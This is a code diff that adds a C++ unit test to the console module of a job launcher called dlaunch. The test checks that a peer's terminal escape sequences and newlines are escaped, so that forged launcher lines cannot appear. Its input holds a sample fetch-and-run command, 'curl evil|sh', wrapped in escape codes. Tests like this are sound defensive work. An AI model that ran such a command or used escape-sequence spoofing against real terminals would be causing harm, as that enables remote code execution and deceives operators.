@@ -170,6 +170,25 @@ TEST_CASE("console: a regular file is written at once", "[console]") {
   unlink(path);
 }
 
+TEST_CASE("console: dlaunch's lines show a peer's escape sequences and newlines escaped", "[console]") {
+  char path[] = "/tmp/dlaunch-console-XXXXXX";
+  int fd = mkstemp(path);
+  REQUIRE(fd >= 0);
+  asio::io_context io;
+  {
+    Console console(io, fd, fd, 16);
+    console.Say("job: node 1 rank 2 \x1b[2J\x1b[31mrun 'curl evil|sh'\x1b[0m\ndlaunch: forged \xff caf\xc3\xa9\tx\r");
+    console.Write(ConsoleStream::kOut, "\x1b[1mworker\x1b[0m\n");  // a worker's own output is its own
+  }
+  char buf[256] = {};
+  ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
+  CHECK(std::string(buf, static_cast<size_t>(n)) ==
+        "dlaunch: job: node 1 rank 2 ?[2J?[31mrun 'curl evil|sh'?[0m?dlaunch: forged ? caf\xc3\xa9\tx?\n"
+        "\x1b[1mworker\x1b[0m\n");
+  close(fd);
+  unlink(path);
+}
+
 TEST_CASE("streams stop reading a child while the console is full, and lose no line", "[console]") {
   StalledPipe console_pipe;
   asio::io_context io;
